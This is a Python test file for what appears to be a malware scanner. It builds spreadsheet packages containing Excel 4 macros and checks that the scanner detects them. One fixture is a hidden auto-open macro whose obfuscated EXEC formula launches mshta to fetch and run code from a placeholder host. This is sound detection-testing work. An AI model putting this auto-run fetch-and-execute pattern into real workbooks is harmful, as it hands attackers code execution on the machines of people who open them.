"""Excel 4 macros in packages: calls and addresses put together from constants."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.builders.files import examined, names_of, package

from seriema.model.artifact import State

PIECES = '=EXEC("msh"&amp;CHAR(116)&amp;"a ht"&amp;"tp://a.test/x")'


def workbook(formula):
    parts = {
        "xl/workbook.xml": '<definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName>',
        "xl/macrosheets/sheet1.xml": f"<c><f>{formula}</f></c>",
    }
    return package(parts, "spreadsheetml.sheet.main+xml")


def test_a_formula_that_fetches_and_runs():
    seen = examined(workbook(PIECES), "x.xlsm")
    assert {"xlm.auto-run", "xlm.call", "xlm.fetch-and-run"} <= names_of(seen)
    assert ("http://a.test/x", "download") in {(one.value, one.role) for one in seen.indicators}
    assert seen.state is State.UNSUPPORTED


@pytest.mark.parametrize("formula", ['=EXEC("http://a.test/"&amp;A1)', "=SUM(A1:A9)"])
def test_half_an_address_is_none(formula):
    assert examined(workbook(formula), "x.xlsm").indicators == ()


@settings(max_examples=200, deadline=None)
@given(st.text('=EXC"&;CHAR(16)<>f/', max_size=60))
def test_any_formula_is_read(formula):
    assert examined(workbook(formula), "x.xlsm").state is not State.CRASHED
